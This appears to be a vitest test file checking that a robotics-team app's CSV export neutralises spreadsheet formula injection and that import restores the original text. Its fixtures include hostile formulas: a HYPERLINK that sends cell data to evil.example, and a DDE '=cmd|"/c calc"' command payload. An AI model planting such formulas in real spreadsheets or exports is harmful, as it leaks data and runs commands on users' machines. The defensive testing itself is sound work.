// Issue 21, finding 5: text from a TEAM user (or a team name from the FTC sync) must not reach the admin's spreadsheet
// as a formula. Every exported cell that starts with = + - @ tab or CR carries a leading single quote and is quoted
// (OWASP CSV injection); the import removes that quote again, so export → import is lossless.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, guardCsvCell, unguardCsvCell } from '../../src/server/csv-cells';
import { parseTeamsCsv, writeTeamsCsv } from '../../src/server/modules/teams/team-csv.parse';
import { TEAM_CSV_COLUMNS } from '../../src/shared/schemas/team-csv';
import { EMAILS, makeTestApp, type TestApp } from '../helpers/app';
import { callersForEveryRole, type Caller } from '../helpers/caller';

let t: TestApp;
let admin: Caller;
let team: Caller;
let seasonId = 0;

/** Team names the round trip must keep exactly. */
const NAMES = ['=1+2', '-Robo', '+40 Team', '@home', "'quoted", "'=already quoted", "''+two quotes", '=HYPERLINK("https://evil.example/?x="&A1;"Click")'];
const FORMULA_START = /^[=+\-@\t\r]/;

/** The cells as a spreadsheet reads them (RFC 4180 with `;`), header row first. */
const cellsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];

beforeAll(async () => {
  t = await makeTestApp();
  [, admin, team] = await callersForEveryRole(t);
  const season = await admin.seasons.create({ seasonNumber: 11, seasonName: 'CSV 2026' });
  seasonId = season.id;
});
afterAll(() => t.close());

describe('CSV export: no cell is a formula', () => {
  it('guards names, a TEAM user’s own description and a synced name; importing the export back changes nothing', async () => {
    let number = 501;
    for (const name of NAMES) await admin.teams.create({ teamNumber: number++, name, city: '@Cluj', school: '-Liceu' });
    // A team name as the FTC sync writes it: straight into the table.
    const now = new Date().toISOString();
    await t.deps.db
      .insertInto('teams')
      .values({ team_number: 599, name: '=cmd|"/c calc"!A1', city: null, school: null, website: null, about: null, created_at: now, updated_at: now })
      .execute();
    // A TEAM user's own text.
    const mine = (await admin.teams.list({ search: '-Robo' }))[0]!;
    const user = await t.deps.db.selectFrom('users').select('id').where('email', '=', EMAILS.TEAM).executeTakeFirstOrThrow();
    await admin.users.setTeam({ id: user.id, teamId: mine.id });
    await team.teams.updateProfile({ teamId: mine.id, about: '=HYPERLINK("https://evil.example","Details")' });

    const before = await t.deps.db.selectFrom('teams').selectAll().orderBy('id').execute();
    const { csv } = await admin.teams.csvExport({ seasonId });

    const [header, ...rows] = cellsOf(csv);
    expect(header).toEqual([...TEAM_CSV_COLUMNS]);
    expect(rows.length).toBe(NAMES.length + 1);
    for (const row of rows) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    // Each guarded cell is also quoted in the file (OWASP: wrapped in double quotes, inner quotes doubled).
    expect(csv).toContain(`;"'=1+2";`);
    expect(csv).toContain(`;"'-Robo";"'@Cluj";`);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example"",""Details"")"`);
    expect(csv).toContain(`;"'=cmd|""/c calc""!A1";`);

    const preview = await admin.teams.csvPreview({ seasonId, csv });
    expect(preview.counts).toEqual({ new: 0, changed: 0, unchanged: NAMES.length + 1, invalid: 0 });
    await admin.teams.csvImport({ seasonId, csv });
    const after = await t.deps.db.selectFrom('teams').selectAll().orderBy('id').execute();
    expect(after.map(({ updated_at: _u, ...rest }) => rest)).toEqual(before.map(({ updated_at: _u, ...rest }) => rest));
    for (const name of NAMES) expect(after.some((row) => row.name === name), name).toBe(true);
  });

  it('an import of names that were never guarded reads them as written, a guarded one without its quote', async () => {
    const csv = `${TEAM_CSV_COLUMNS.join(';')}\r\n601;"'=1+2";;;;;;\r\n602;'-Robo;;;;;;\r\n603;'quoted;;;;;;\r\n604;=plain;;;;;;\r\n`;
    const names = parseTeamsCsv(csv).rows.map((r) => r.team?.name);
    expect(names).toEqual(['=1+2', '-Robo', "'quoted", '=plain']);
  });
});

describe('the cell guard itself (one helper, both directions)', () => {
  const TEXTS = ['=1+2', '-Robo', '+40 Team', '@home', '\tTab', '\rCR', "'quoted", "'=x", "''@y", 'plain', '', 'a=b', '2-1', ' =spaced'];

  it('guards exactly the formula starts, and unguard undoes guard for every text', () => {
    for (const text of TEXTS) {
      const guarded = guardCsvCell(text);
      expect(guarded, JSON.stringify(text)).not.toMatch(FORMULA_START);
      expect(unguardCsvCell(guarded), JSON.stringify(text)).toBe(text);
    }
    expect(guardCsvCell('plain')).toBe('plain');
    expect(guardCsvCell("'quoted")).toBe("'quoted");
    expect(guardCsvCell('\tTab')).toBe("'\tTab");
    expect(guardCsvCell('\rCR')).toBe("'\rCR");
  });

  it('a file written with tab and CR starts reads back the same cells', () => {
    const row = { team_number: 7, name: 'Robo', city: '\tTab', region: '\rCR', school: '@school', website: null, description: '+x', status: null };
    const written = writeTeamsCsv([row]);
    expect(csvCell('\tTab')).toBe(`"'\tTab"`);
    const read = cellsOf(written)[1]!;
    expect(read.slice(2, 7)).toEqual(["'\tTab", "'\rCR", "'@school", '', "'+x"]);
    expect(read.map(unguardCsvCell).slice(2, 7)).toEqual(['\tTab', '\rCR', '@school', '', '+x']);
  });
});
